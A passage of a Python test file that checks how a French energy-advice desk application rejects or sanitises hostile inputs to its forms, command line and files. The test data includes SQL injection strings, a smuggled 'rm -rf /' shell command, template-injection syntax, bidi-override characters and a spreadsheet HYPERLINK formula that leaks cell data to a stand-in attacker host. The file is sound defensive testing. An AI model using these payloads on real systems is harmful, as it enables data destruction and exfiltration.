"""The bad-input catalogue: hostile or broken inputs through the GUI's services, the
command line and files, each answered in French by one clear line, or stored sanitised.

Every case runs on a fresh copy of a sample centre (20 households, their consultations,
one archived letter). After it: no row that was there is lost or changed, a refused
input stored nothing at all (not even an audit event), and nothing is half-written (no
``.partial`` file, integrity and foreign keys OK, no orphan rows). A refusal must not
leak an English OS or SQLite error, and must differ from the same refusal in English.
"""

from __future__ import annotations

import os
import shutil
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from testkit.bad_inputs import (
    LEAKS,
    MAY_CHANGE,
    Accepted,
    Case,
    Env,
    Refused,
    backups_disk_full,
    damage_middle,
    damage_table,
    database_full,
    files_disk_full,
    half_written,
    letter_consultation,
    lost_or_changed,
    make_sample,
    set_revision,
    snapshot,
)
from testkit.hostile_files import IMPORT_CASES
from testkit.letters import pdftotext
from testkit.unprivileged import permissions_apply

from siec_desk.cli.arg_types import MAX_ID
from siec_desk.core import i18n
from siec_desk.core.errors import DatabaseError, SiecError
from siec_desk.documents.engine.pdf import RenderedPdf
from siec_desk.documents.letters.inputs import FreeTexts
from siec_desk.domain.consultation_records import ConsultationInput, MeasureChoice, OutcomeInput
from siec_desk.domain.event_records import EventInput
from siec_desk.domain.household_records import HouseholdInput
from siec_desk.domain.readings import ReadingInput
from siec_desk.services.branding import BrandingInput
from siec_desk.services.letter_types import LetterRequest
from siec_desk.texts.labels import FIELDS, describe_errors

BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: makes "txt.exe" display as "exe.txt"
ISOLATES = "\u2066\u2067\u2068\u2069\u202a\u202b\u202c\u202d"
CONTROLS = "\x00\x07\x1b\x7f"
SQL = "Robert'); DROP TABLE households;--"
JINJA = "{{ 7*7 }} {% if true %}oui{% endif %}"
LONG = "é" * 100_000
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64


# -- actions -----------------------------------------------------------------------------
def household(**fields: Any) -> Any:
    """The household form saves these fields."""
    return lambda env: env.ctx().households.create(HouseholdInput(**fields))


CALL = ConsultationInput(mode="phone", themes=("heating",), commune="Gardanne")


def consultation(**fields: Any) -> Any:
    """The consultation editor (or the quick log) saves this consultation."""

    def action(env: Env) -> int:
        return env.ctx().consultations.add(replace(CALL, **fields))

    return action


def with_household(**fields: Any) -> Any:
    """A consultation of a sample household (measures need a dwelling)."""

    def action(env: Env) -> int:
        household_id = env.ctx().households.page(0, 1)[0].id
        return env.ctx().consultations.add(replace(CALL, household_id=household_id, **fields))

    return action


def branding(**fields: Any) -> Any:
    """Centre ▸ Letter settings saves this branding."""
    return lambda env: env.ctx().branding.update(BrandingInput(**fields))


def letter(texts: FreeTexts) -> Any:
    """The letter dialog composes its preview with the advisor's texts."""

    def action(env: Env) -> Any:
        return env.ctx().letters.compose(LetterRequest(letter_consultation(env.ctx()), texts=texts))

    return action


def cli(*args: str) -> Any:
    return lambda env: env.cli(*args)


ADD_CALL = ("consultation", "add", "--mode", "phone", "--theme", "heating")
HUGE = "99999999999999999999"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'


def formula_commune_report(env: Env) -> Path:
    """redteam HIGH-2: a commune typed as a formula, then the month's Excel report."""
    today = datetime.now().date()
    code, _out, err = env.cli(*ADD_CALL, "--date", today.isoformat(), "--commune", FORMULA)
    assert code == 0, err
    out = env.folder / "report.xlsx"
    code, _out, err = env.cli("stats", "report", "--month", f"{today:%Y-%m}", "--out", str(out))
    assert code == 0, err
    return out


def report_has_no_formula(env: Env, out: Path) -> None:
    book = load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]


# -- accepted inputs: what was stored ----------------------------------------------------
def stored_household(**expected: Any) -> Accepted:
    def check(env: Env, household_id: int) -> None:
        detail = env.ctx().households.get(household_id)
        stored = {**detail.summary.as_json(), **detail.as_json()}
        assert {k: stored[k] for k in expected} == expected

    return Accepted(check)


def stored_consultation(**expected: Any) -> Accepted:
    def check(env: Env, consultation_id: int) -> None:
        detail = env.ctx().consultations.get(consultation_id)
        stored = {"notes": detail.notes, "commune": detail.summary.commune}
        assert {k: stored[k] for k in expected} == expected

    return Accepted(check)


def search_finds(query: str, last_name: str) -> Accepted:
    def check(env: Env, household_id: int) -> None:
        assert env.ctx().households.get(household_id).summary.last_name == last_name
        assert household_id in [h.id for h in env.ctx().households.search(query)]

    return Accepted(check)


def stored_branding(**expected: Any) -> Accepted:
    def check(env: Env, _result: Any) -> None:
        stored = env.ctx().branding.get()
        assert {k: getattr(stored, k) for k in expected} == expected

    return Accepted(check)


def cli_household(last_name: str) -> Accepted:
    def check(env: Env, result: tuple[int, str, str]) -> None:
        code, out, err = result
        assert code == 0 and err == ""
        assert env.ctx().households.get(int(out.split()[1])).summary.last_name == last_name

    return Accepted(check)


def cli_search_ok(env: Env, result: tuple[int, str, str]) -> None:
    code, out, err = result
    assert (code, err) == (0, "") and out.strip() == "[]"


def hostile_letter(env: Env) -> tuple[int, bytes]:
    """A household named with template syntax and SQL, its letter's findings with both
    plus control and bidi characters: composed, rendered (WeasyPrint) and archived."""
    from siec_desk.documents.letters.render import render_pdf

    ctx = env.ctx()
    household_id = ctx.households.create(
        HouseholdInput(first_name="{{ 7*7 }}", last_name="Dupont", address=SQL, commune="Gardanne")
    )
    consultation_id = ctx.consultations.add(replace(CALL, household_id=household_id))
    texts = FreeTexts(findings=f"Fuite{CONTROLS} au salon {BIDI}{JINJA}\nFin.")
    request = LetterRequest(consultation_id, texts=texts)
    content = ctx.letters.compose(request)
    rendered = render_pdf(content)
    return ctx.letters.record(request, content, rendered).id, rendered.pdf


def letter_printed_literally(env: Env, result: tuple[int, bytes]) -> None:
    letter_id, pdf = result
    record = env.ctx().letters.get(letter_id)
    assert record.texts.findings == f"Fuite au salon {JINJA}\nFin."
    text = pdftotext(pdf, env.folder)
    assert "{{ 7*7 }} Dupont" in text, "a name is printed as typed, never evaluated"
    assert JINJA in text
    assert SQL.rstrip("-") in text  # pdftotext joins a "-" at the end of a line
    assert "49 Dupont" not in text and "49 oui" not in text, "7*7 was not computed"
    assert BIDI not in text and "\x00" not in text


# -- refused inputs: more checks ---------------------------------------------------------
def no_backup_written(env: Env) -> None:
    assert not env.backups.exists() or not list(env.backups.iterdir())


def no_file(name: str) -> Any:
    def check(env: Env) -> None:
        assert not (env.folder / name).exists(), f"{name} was written"

    return check


def no_new_letter_file(env: Env) -> None:
    assert len(list((env.folder / "letters").rglob("*.pdf"))) == 1  # the sample's letter


def path_named(name: str) -> Any:
    return lambda env: str(env.folder / name)


# -- file cases: set-up then action ------------------------------------------------------
def damaged_household_list(env: Env) -> Any:
    damage_table(env.copy_db("damaged.sqlite3"), "households")
    env.protected = (env.folder / "damaged.sqlite3").read_bytes()
    return env.cli("household", "list", db=env.folder / "damaged.sqlite3")


def damaged_check(env: Env) -> Any:
    damage_middle(env.copy_db("damaged.sqlite3"))
    env.protected = (env.folder / "damaged.sqlite3").read_bytes()
    return env.cli("db", "check", db=env.folder / "damaged.sqlite3")


def protected_unchanged(env: Env) -> None:
    assert (env.folder / "damaged.sqlite3").read_bytes() == env.protected


def newer_schema(env: Env) -> Any:
    newer = env.copy_db("newer.sqlite3")
    set_revision(newer, "9999")
    env.protected = newer.read_bytes()
    return env.cli("household", "list", db=newer)


def newer_unchanged(env: Env) -> None:
    assert (env.folder / "newer.sqlite3").read_bytes() == env.protected
    no_backup_written(env)


def under_a_file(env: Env) -> Any:
    env.file("notes.txt", b"notes\n")
    return env.cli("household", "list", db=env.folder / "notes.txt" / "centre.sqlite3")


def backup_under_a_file(env: Env) -> Any:
    env.file("notes.txt", b"notes\n")
    return env.cli("db", "backup", "--out", str(env.folder / "notes.txt" / "b.sqlite3"))


def text_as_database(env: Env) -> Any:
    env.file("notes.txt", b"Ceci n'est pas une base.\n" * 10)
    return env.cli("household", "list", db=env.folder / "notes.txt")


def read_only_folder(env: Env) -> Any:
    folder = env.folder / "locked"
    folder.mkdir(exist_ok=True)  # the case runs in French, then in English
    folder.chmod(0o500)
    try:
        with permissions_apply():  # under root (CI) too: a real EACCES from the kernel
            return env.cli("household", "list", db=folder / "centre.sqlite3")
    finally:
        folder.chmod(0o700)


def restore(make: Any) -> Any:
    def action(env: Env) -> Any:
        return env.cli("db", "restore", str(make(env)))

    return action


def truncated_backup(env: Env) -> Path:
    good = env.backup("good.sqlite3").read_bytes()
    return env.file("truncated.sqlite3", good[: len(good) // 2])


def newer_backup(env: Env) -> Path:
    newer = env.backup("newer-backup.sqlite3")
    set_revision(newer, "9999")
    return newer


def backup_disk_full(out: str | None = None) -> Any:
    def action(env: Env) -> Any:
        backups_disk_full(env.monkeypatch)
        return env.cli("db", "backup", *(["--out", str(env.folder / out)] if out else []))

    return action


def save_on_full_disk(env: Env) -> Any:
    household_id = env.ctx().households.page(0, 1)[0].id
    database_full(env.ctx())
    notes = "Notes de visite. " * 1000  # needs new pages
    return env.ctx().consultations.add(replace(CALL, household_id=household_id, notes=notes))


def letter_on_full_disk(env: Env) -> Any:
    ctx = env.ctx()
    request = LetterRequest(letter_consultation(ctx))
    content = ctx.letters.compose(request)
    files_disk_full(env.monkeypatch)
    return ctx.letters.record(request, content, RenderedPdf(b"%PDF-1.7\n" * 1000, 1))


def rights_export_on_full_disk(env: Env) -> Any:
    household_id = env.ctx().households.page(0, 1)[0].id
    files_disk_full(env.monkeypatch)
    return env.ctx().rights.export(household_id, env.folder / "export.json")


POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="folder permissions are POSIX here")
NOW = datetime.now().replace(microsecond=0)

# -- the catalogue -----------------------------------------------------------------------
# -- events (schema 0016): the Events page's form and ``event add`` ------------------------
SCHOOL_VISIT = EventInput(date(2026, 11, 20), "school_visit", audiences={"pupils_students": 45})


def event(**fields: Any) -> Any:
    """The event form saves this school visit, changed by *fields*."""
    return lambda env: env.ctx().events.add(replace(SCHOOL_VISIT, **fields))


def event_cli(*args: str) -> Any:
    return lambda env: env.cli("event", "add", *args)


EVENT_CASES = [
    Case("event-past-nobody", "form", event(audiences={}), Refused("audiences")),
    Case("event-two-years-ahead", "form", event(occurred_on=date(2999, 1, 1)),
         Refused("occurred_on")),
    Case("event-participants-over-max", "form", event(audiences={"general_public": 100_001}),
         Refused("audiences")),
    Case("event-participants-negative", "form", event(audiences={"general_public": -3}),
         Refused("audiences")),
    Case("event-unknown-audience", "form", event(audiences={"households": 3}),
         Refused("audiences")),
    Case("event-duration-two-days", "form", event(duration_min=2880), Refused("duration_min")),
    Case("event-title-too-long", "form", event(title="x" * 201), Refused("title")),
    Case("event-unknown-advisor", "form", event(advisor_ids=(999_999,)), Refused("advisors")),
    Case("event-cli-past-nobody", "cli", event_cli("--date", "2026-11-20", "--type", "workshop"),
         Refused("audiences")),
    Case("event-cli-audience-not-code-n", "cli",
         event_cli("--date", "2026-11-20", "--type", "workshop", "--audience", "pupils"),
         Refused(names="--audience", exit=2)),
    Case("event-import-not-an-events-sheet", "cli",
         lambda env: env.cli("event", "import", str(env.file(
             "contacts.csv", "Nom;Téléphone\nDupont;0612345678\n".encode()))),
         Refused(names="contacts.csv")),
    Case("event-import-xls", "cli",
         lambda env: env.cli("event", "import", str(env.file("events.xls", b"\xd0\xcf\x11\xe0"))),
         Refused(names="events.xls")),
    Case("consultation-cli-unknown-event", "cli",
         lambda env: env.cli("consultation", "add", "--mode", "phone", "--theme", "water",
                             "--event", "999999"), Refused("event_id")),
]  # fmt: skip

# -- consumption readings: the household page's dialog and ``household readings add`` ----
BILL = ReadingInput("electricity_kwh", date(2025, 3, 31), 320.0, "bill", date(2025, 3, 1))


def reading(**fields: Any) -> Any:
    """The reading dialog of the household page saves this bill of a sample household."""

    def action(env: Env) -> int:
        household_id = env.ctx().households.page(0, 1)[0].id
        return env.ctx().readings.add(household_id, replace(BILL, **fields))

    return action


def reading_cli(*args: str) -> Any:
    """``household readings add ID ARGS`` on a sample household."""

    def action(env: Env) -> tuple[int, str, str]:
        household_id = env.ctx().households.page(0, 1)[0].id
        env.close()
        return env.cli("household", "readings", "add", str(household_id), *args)

    return action


def stored_reading_notes(env: Env, reading_id: int) -> None:
    stored = env.ctx().readings.get(reading_id)
    assert stored.notes == "Relevé lu sur la facture"
    assert stored.quantity == 320.0 and stored.amount_minor == 6400


FUTURE = (date.today() + timedelta(days=30)).isoformat()
MARCH = ("--from", "2025-03-01", "--to", "2025-03-31")
READING_CASES = [
    Case("reading-future-date", "form", reading(end_on=date(2999, 1, 31)), Refused("end_on")),
    Case("reading-end-before-start", "form", reading(end_on=date(2025, 2, 1)), Refused("end_on")),
    Case(
        "reading-bill-over-400-days",
        "form",
        reading(start_on=date(2023, 1, 1), end_on=date(2025, 1, 1)),
        Refused("start_on"),
    ),
    Case("reading-negative-quantity", "form", reading(quantity=-5.0), Refused("quantity")),
    Case("reading-nan-quantity", "form", reading(quantity=float("nan")), Refused("quantity")),
    Case("reading-negative-amount", "form", reading(amount=Decimal("-12.50")), Refused("amount")),
    Case("reading-amount-infinite", "form", reading(amount=Decimal("Infinity")), Refused("amount")),
    Case("reading-implausible-per-day", "form", reading(quantity=100_000.0), Refused("quantity")),
    Case(
        "reading-meter-index-too-big",
        "form",
        reading(source="meter", start_on=None, quantity=123_456_789.0),
        Refused("quantity"),
    ),
    Case("reading-unknown-kind", "form", reading(kind="plutonium_g"), Refused("kind")),
    Case("reading-notes-100k", "form", reading(notes=LONG), Refused("notes")),
    Case(
        "reading-notes-controls",
        "form",
        reading(notes=f"{CONTROLS}Relevé lu{BIDI} sur la facture", amount=Decimal("64")),
        Accepted(stored_reading_notes),
    ),
    Case(
        "cli-reading-future-date",
        "cli",
        reading_cli("--date", FUTURE, "--kwh", "12345"),
        Refused("end_on"),
    ),
    Case(
        "cli-reading-end-before-start",
        "cli",
        reading_cli("--from", "2025-03-31", "--to", "2025-03-01", "--kwh", "300"),
        Refused("end_on"),
    ),
    Case(
        "cli-reading-bill-over-400-days",
        "cli",
        reading_cli("--from", "2023-01-01", "--to", "2025-01-01", "--kwh", "300"),
        Refused("start_on"),
    ),
    Case(
        "cli-reading-negative-quantity",
        "cli",
        reading_cli(*MARCH, "--kwh", "-5"),
        Refused("quantity"),
    ),
    Case(
        "cli-reading-negative-amount",
        "cli",
        reading_cli(*MARCH, "--kwh", "300", "--amount", "-12.50"),
        Refused("amount"),
    ),
    Case(
        "cli-reading-implausible-per-day",
        "cli",
        reading_cli(*MARCH, "--kwh", "100000"),
        Refused("quantity"),
    ),
    Case(
        "cli-reading-meter-index-too-big",
        "cli",
        reading_cli("--date", "2025-03-01", "--kwh", "123456789"),
        Refused("quantity"),
    ),
    Case(
        "cli-reading-unknown-kind",
        "cli",
        reading_cli(*MARCH, "--kind", "plutonium_g", "--quantity", "3"),
        Refused(names="--kind", exit=2),
    ),
    Case(
        "cli-reading-quantity-not-a-number",
        "cli",
        reading_cli(*MARCH, "--kwh", "beaucoup"),
        Refused(names="--kwh", exit=2),
    ),
    Case(
        "cli-reading-unknown-household",
        "cli",
        cli("household", "readings", "add", "999999", *MARCH, "--kwh", "300"),
        Refused(names="999999"),
    ),
]

#: The agenda (issue 20, D5): a follow-up's day, time and kind, on the form and the CLI.
NEXT_WEEK = (date.today() + timedelta(days=7)).isoformat()
AGENDA_CASES = [
    Case(
        "follow-up-action-without-date",
        "form",
        with_household(follow_up_action="Rappeler pour les devis"),
        Refused("follow_up_due"),
    ),
    Case(
        "follow-up-time-without-date",
        "form",
        with_household(follow_up_time=time(9, 30)),
        Refused("follow_up_time"),
    ),
    Case(
        "follow-up-unknown-kind",
        "form",
        with_household(follow_up_due=date.today(), follow_up_kind="lunch"),
        Refused("follow_up_kind"),
    ),
    Case(
        "cli-follow-up-time-not-a-time",
        "cli",
        cli(*ADD_CALL, "--follow-up-due", NEXT_WEEK, "--follow-up-time", "25:61"),
        Refused(names="--follow-up-time", exit=2),
    ),
    Case(
        "cli-followup-list-unknown-status",
        "cli",
        cli("followup", "list", "--status", "someday"),
        Refused(names="--status", exit=2),
    ),
    Case(
        "cli-followup-postpone-impossible-day",
        "cli",
        cli("followup", "postpone", "1", "--to", "2024-02-31"),
        Refused(names="--to", exit=2),
    ),
]

CASES = [
    # The household form
    Case(
        "household-empty",
        "form",
        household(first_name="", last_name="", phone="", email=""),
        Refused("last_name"),
    ),
    Case(
        "household-whitespace-only",
        "form",
        household(first_name=" \u00a0 ", last_name="\t \n", commune="   "),
        Refused("last_name"),
    ),
    Case(
        "household-notes-100k", "form", household(last_name="Curie", notes=LONG), Refused("notes")
    ),
    Case("household-name-too-long", "form", household(last_name="x" * 101), Refused("last_name")),
    Case(
        "household-control-characters",
        "form",
        household(
            first_name=f"Ma{CONTROLS}rie", last_name="Cu\x00rie", notes="ligne 1\r\nligne 2\x00"
        ),
        stored_household(first_name="Marie", last_name="Curie", notes="ligne 1\nligne 2"),
    ),
    Case(
        "household-line-breaks-in-name",
        "form",
        household(first_name="Marie\tLouise", last_name="Curie\nSkłodowska"),
        stored_household(first_name="Marie Louise", last_name="Curie Skłodowska"),
    ),
    Case(
        "household-bidi-override",
        "form",
        household(first_name=f"{BIDI}eiraM", last_name=f"Curie{ISOLATES}", notes=f"{BIDI}txt.exe"),
        stored_household(first_name="eiraM", last_name="Curie", notes="txt.exe"),
    ),
    Case(
        "household-emoji",
        "form",
        household(first_name="Zoé 🌞", last_name="Martin", notes="Merci 👍🏽"),
        stored_household(first_name="Zoé 🌞", notes="Merci 👍🏽"),
    ),
    Case(
        "household-sql-fragment",
        "form",
        household(last_name=SQL, commune="'; DELETE FROM consultations; --"),
        search_finds("Robert", SQL),
    ),
    Case(
        "household-jinja-syntax",
        "form",
        household(first_name="{{ 7*7 }}", last_name="{% raw %}", notes=JINJA),
        stored_household(first_name="{{ 7*7 }}", last_name="{% raw %}", notes=JINJA),
    ),
    Case(
        "household-phone-letters",
        "form",
        household(last_name="Curie", phone="06 12 AB 34 56"),
        Refused("phone"),
    ),
    Case(
        "household-phone-too-short",
        "form",
        household(last_name="Curie", phone="123"),
        Refused("phone"),
    ),
    Case(
        "household-phone-too-long",
        "form",
        household(last_name="Curie", phone="+33 6 12 34 56 78 90 12 34"),
        Refused("phone"),
    ),
    Case(
        "household-phone-sql",
        "form",
        household(last_name="Curie", phone="0612345678' OR '1'='1"),
        Refused("phone"),
    ),
    Case(
        "household-email-without-at",
        "form",
        household(last_name="Curie", email="marie.curie.example.fr"),
        Refused("email"),
    ),
    Case(
        "household-email-two-ats",
        "form",
        household(last_name="Curie", email="marie@@example.fr"),
        Refused("email"),
    ),
    Case(
        "household-email-with-space",
        "form",
        household(last_name="Curie", email="marie curie@example.fr"),
        Refused("email"),
    ),
    Case(
        "household-email-too-long",
        "form",
        household(last_name="Curie", email="m" * 250 + "@example.fr"),
        Refused("email"),
    ),
    Case(
        "household-size-negative",
        "form",
        household(last_name="Curie", household_size=-3),
        Refused("household_size"),
    ),
    Case(
        "household-size-huge",
        "form",
        household(last_name="Curie", household_size=10**9),
        Refused("household_size"),
    ),
    Case(
        "household-surface-nan",
        "form",
        household(last_name="Curie", surface_m2=float("nan")),
        Refused("surface_m2"),
    ),
    Case(
        "household-surface-infinite",
        "form",
        household(last_name="Curie", surface_m2=float("inf")),
        Refused("surface_m2"),
    ),
    Case(
        "household-income-negative",
        "form",
        household(last_name="Curie", reference_income=-1),
        Refused("reference_income"),
    ),
    Case(
        "household-code-injection",
        "form",
        household(last_name="Curie", tenure="owner'; DROP TABLE households;--"),
        Refused("tenure"),
    ),
    # The consultation editor and the quick log
    Case("consultation-no-theme", "form", consultation(themes=()), Refused("themes")),
    Case("consultation-unknown-mode", "form", consultation(mode="telepathy"), Refused("mode")),
    Case(
        "consultation-unknown-orientation",
        "form",
        consultation(orientations=("mar", "x-astrologer")),
        Refused("orientations"),
    ),
    Case(
        "consultation-future-date",
        "form",
        consultation(occurred_at=NOW + timedelta(days=2)),
        Refused("occurred_at"),
    ),
    Case(
        "consultation-date-before-2000",
        "form",
        consultation(occurred_at=datetime(1899, 12, 31, 10)),
        Refused("occurred_at"),
    ),
    Case(
        "consultation-duration-negative",
        "form",
        consultation(duration_min=-30),
        Refused("duration_min"),
    ),
    Case(
        "consultation-duration-zero", "form", consultation(duration_min=0), Refused("duration_min")
    ),
    Case(
        "consultation-duration-huge",
        "form",
        consultation(duration_min=10**12),
        Refused("duration_min"),
    ),
    Case("consultation-notes-100k", "form", consultation(notes=LONG), Refused("notes")),
    Case(
        "consultation-follow-up-before-visit",
        "form",
        consultation(
            occurred_at=NOW - timedelta(days=3),
            follow_up_action="Rappeler",
            follow_up_due=(NOW - timedelta(days=10)).date(),
        ),
        Refused("follow_up_due"),
    ),
    Case(
        "consultation-unknown-household",
        "form",
        consultation(household_id=10**9),
        Refused("household_id"),
    ),
    Case(
        "consultation-measure-negative",
        "form",
        with_household(measures=(MeasureChoice("led_lighting", {"bulbs": -5}),)),
        Refused("measures"),
    ),
    Case(
        "consultation-measure-nan",
        "form",
        with_household(measures=(MeasureChoice("led_lighting", {"bulbs": float("nan")}),)),
        Refused("measures"),
    ),
    Case(
        "consultation-measure-unknown-value",
        "form",
        with_household(measures=(MeasureChoice("led_lighting", {"bulbs'; --": 3}),)),
        Refused("measures"),
    ),
    Case(
        "consultation-measure-twice",
        "form",
        with_household(measures=(MeasureChoice("led_lighting"), MeasureChoice("led_lighting"))),
        Refused("measures"),
    ),
    Case(
        "consultation-measures-on-the-same-roof",
        "form",
        with_household(
            measures=(MeasureChoice("attic_insulation"), MeasureChoice("roof_insulation"))
        ),
        Refused("measures"),
    ),
    Case(
        "consultation-hostile-notes",
        "form",
        with_household(notes=f"{SQL}\n{JINJA}{BIDI}{CONTROLS} 🌞", commune=f"{BIDI}Gardanne"),
        stored_consultation(notes=f"{SQL}\n{JINJA} 🌞", commune="Gardanne"),
    ),
    Case(
        "outcome-negative-amount",
        "form",
        lambda env: env.ctx().consultations.record_outcome(
            letter_consultation(env.ctx()),
            OutcomeInput(status="done", works_amount=Decimal("-1500")),
        ),
        Refused("outcome_works_amount"),
    ),
    # Letters, branding, advisors, retention, rights
    Case("letter-findings-100k", "form", letter(FreeTexts(findings=LONG)), Refused("findings")),
    Case("letter-opening-100k", "form", letter(FreeTexts(opening=LONG)), Refused("opening")),
    Case(
        "letter-hostile-texts-printed-literally",
        "form",
        hostile_letter,
        Accepted(letter_printed_literally),
    ),
    Case("branding-name-whitespace", "form", branding(name=" \t "), Refused("name")),
    Case(
        "branding-logo-is-a-pdf",
        "form",
        branding(name="Espace Conseil", logo=b"%PDF-1.7\n%\xe2\xe3\n"),
        Refused("logo"),
    ),
    Case(
        "branding-logo-too-large",
        "form",
        branding(name="Espace Conseil", logo=PNG + b"\x00" * 2_000_000),
        Refused("logo"),
    ),
    Case(
        "branding-code-with-spaces",
        "form",
        branding(name="Espace Conseil", network_code="CIE CHEF; DROP"),
        Refused("network_code"),
    ),
    Case(
        "branding-email-malformed",
        "form",
        branding(name="Espace Conseil", email="contact@"),
        Refused("email"),
    ),
    Case(
        "branding-footer-jinja-bidi",
        "form",
        branding(name=f"Espace {BIDI}Conseil", letter_footer=f"{JINJA}\n{SQL}{ISOLATES}"),
        stored_branding(name="Espace Conseil", letter_footer=f"{JINJA}\n{SQL}"),
    ),
    Case(
        "advisor-whitespace-only",
        "form",
        lambda env: env.ctx().centres.add_advisor(" \t\u00a0 "),
        Refused("display_name"),
    ),
    Case(
        "retention-zero-years",
        "form",
        lambda env: env.ctx().retention.set_period(0),
        Refused("retention_years"),
    ),
    Case(
        "retention-huge",
        "form",
        lambda env: env.ctx().retention.set_period(10**6),
        Refused("retention_years"),
    ),
    Case(
        "retention-empty",
        "form",
        lambda env: env.ctx().retention.set_period(None),
        Refused("retention_years"),
    ),
    Case(
        "rights-export-wrong-kind",
        "form",
        lambda env: env.ctx().rights.export(1, env.folder / "export.exe"),
        Refused(error=SiecError, then=no_file("export.exe")),
    ),
    # The command line
    Case(
        "cli-impossible-date",
        "cli",
        cli(*ADD_CALL, "--date", "2024-02-31"),
        Refused(names="--date", exit=2),
    ),
    Case(
        "cli-french-date-format",
        "cli",
        cli(*ADD_CALL, "--date", "31/02/2024"),
        Refused(names="31/02/2024", exit=2),
    ),
    Case("cli-future-date", "cli", cli(*ADD_CALL, "--date", "2999-01-01"), Refused("occurred_at")),
    Case(
        "cli-household-surface-negative",
        "cli",
        cli("household", "add", "--last-name", "Curie", "--surface", "-5"),
        Refused("surface_m2"),
    ),
    Case(
        "cli-household-surface-not-a-number",
        "cli",
        cli("household", "add", "--last-name", "Curie", "--surface", "grand"),
        Refused(names="--surface", exit=2),
    ),
    Case(
        "cli-household-top-floor-unknown-word",
        "cli",
        cli("household", "add", "--last-name", "Curie", "--top-floor", "peut-être"),
        Refused(names="--top-floor", exit=2),
    ),
    Case(
        "cli-duration-negative", "cli", cli(*ADD_CALL, "--duration", "-5"), Refused("duration_min")
    ),
    Case(
        "cli-duration-huge", "cli", cli(*ADD_CALL, "--duration", "9" * 30), Refused("duration_min")
    ),
    Case(
        "cli-duration-not-a-number",
        "cli",
        cli(*ADD_CALL, "--duration", "une heure"),
        Refused(names="--duration", exit=2),
    ),
    Case(
        "cli-theme-injection",
        "cli",
        cli("consultation", "add", "--mode", "phone", "--theme", "heating; rm -rf /"),
        Refused(names="--theme", exit=2),
    ),
    Case("cli-notes-100k", "cli", cli(*ADD_CALL, "--notes", LONG), Refused("notes")),
    Case(
        "cli-unknown-orientation",
        "cli",
        cli(*ADD_CALL, "--orientation", "astrologer"),
        Refused(names="--orientation", exit=2),
    ),
    Case(
        "cli-household-empty",
        "cli",
        cli("household", "add", "--last-name", "   "),
        Refused("last_name"),
    ),
    Case(
        "cli-household-email",
        "cli",
        cli("household", "add", "--last-name", "Curie", "--email", "a@@b"),
        Refused("email"),
    ),
    Case(
        "cli-household-phone",
        "cli",
        cli("household", "add", "--last-name", "Curie", "--phone", "+33 6 ABC"),
        Refused("phone"),
    ),
    Case(
        "cli-household-missing",
        "cli",
        cli("household", "show", "999999"),
        Refused(names="999999"),
    ),
    *(  # redteam LOW-5: ids and limits past what a database column holds
        Case(f"cli-huge-{name}", "cli", cli(*args), Refused(names=str(MAX_ID), exit=2))
        for name, args in (
            ("household-show", ("household", "show", HUGE)),
            ("household-erase", ("household", "erase", HUGE, "--yes")),
            ("household-export", ("household", "export", HUGE, "--out", "x.json")),
            ("letter", ("letter", HUGE, "--out", "x.pdf")),
            ("consultation-household", (*ADD_CALL, "--household", HUGE)),
            ("list-limit", ("household", "list", "--limit", HUGE)),
            ("search-limit", ("household", "search", "dupont", "--limit", HUGE)),
        )
    ),
    Case(
        "cli-formula-commune-stays-text-in-the-report",
        "cli",
        formula_commune_report,
        Accepted(report_has_no_formula),
    ),
    Case(
        "cli-household-bidi-name",
        "cli",
        cli("household", "add", "--last-name", f"{BIDI}Curie{CONTROLS}"),
        cli_household("Curie"),
    ),
    Case(
        "cli-search-fts-syntax",
        "cli",
        cli("household", "search", '" NEAR( * ^ - OR', "--json"),
        Accepted(cli_search_ok),
    ),
    Case(
        "cli-search-sql",
        "cli",
        cli("household", "search", "'; DROP TABLE households; --", "--json"),
        Accepted(cli_search_ok),
    ),
    # Files
    Case(
        "file-corrupted-database",
        "file",
        damaged_household_list,
        Refused(names=path_named("damaged.sqlite3"), then=protected_unchanged),
    ),
    Case("file-corrupted-database-check", "file", damaged_check, Refused(then=protected_unchanged)),
    Case(
        "file-database-not-sqlite", "file", text_as_database, Refused(names=path_named("notes.txt"))
    ),
    Case(
        "file-database-folder-missing",
        "file",
        lambda env: env.cli("household", "list", db=env.folder / "missing" / "centre.sqlite3"),
        Refused(names=path_named("missing")),
    ),
    Case(
        "file-database-under-a-file", "file", under_a_file, Refused(names=path_named("notes.txt"))
    ),
    Case(
        "file-database-read-only-folder",
        "file",
        read_only_folder,
        Refused(names=path_named("locked")),
        marks=(POSIX_ONLY,),
    ),
    Case(
        "file-newer-schema",
        "file",
        newer_schema,
        Refused(names="9999", then=newer_unchanged),
    ),
    Case(
        "file-restore-truncated-backup",
        "file",
        restore(truncated_backup),
        Refused(names=path_named("truncated.sqlite3"), then=no_backup_written),
    ),
    Case(
        "file-restore-a-pdf",
        "file",
        restore(
            lambda env: env.file("lettre.pdf", b"%PDF-1.7\n%\xe2\xe3\n1 0 obj<<>>endobj\n%%EOF\n")
        ),
        Refused(names=path_named("lettre.pdf"), then=no_backup_written),
    ),
    Case(
        "file-restore-a-text-file",
        "file",
        restore(lambda env: env.file("backup.sqlite3", b"SQLite format 2 -- not really\n")),
        Refused(then=no_backup_written),
    ),
    Case(
        "file-restore-empty-file",
        "file",
        restore(lambda env: env.file("empty.sqlite3", b"")),
        Refused(then=no_backup_written),
    ),
    Case(
        "file-restore-missing-file",
        "file",
        restore(lambda env: env.folder / "nowhere.sqlite3"),
        Refused(names=path_named("nowhere.sqlite3"), then=no_backup_written),
    ),
    Case(
        "file-restore-newer-backup",
        "file",
        restore(newer_backup),
        Refused(names="9999", then=no_backup_written),
    ),
    Case(
        "file-restore-a-folder",
        "file",
        restore(lambda env: env.folder / "letters"),
        Refused(then=no_backup_written),
    ),
    Case(
        "file-backup-under-a-file",
        "file",
        backup_under_a_file,
        Refused(names=path_named("notes.txt")),
    ),
    # A full disk
    Case("disk-full-database-save", "form", save_on_full_disk, Refused(error=DatabaseError)),
    Case("disk-full-backup", "file", backup_disk_full(), Refused(then=no_backup_written)),
    Case(
        "disk-full-backup-to-file",
        "file",
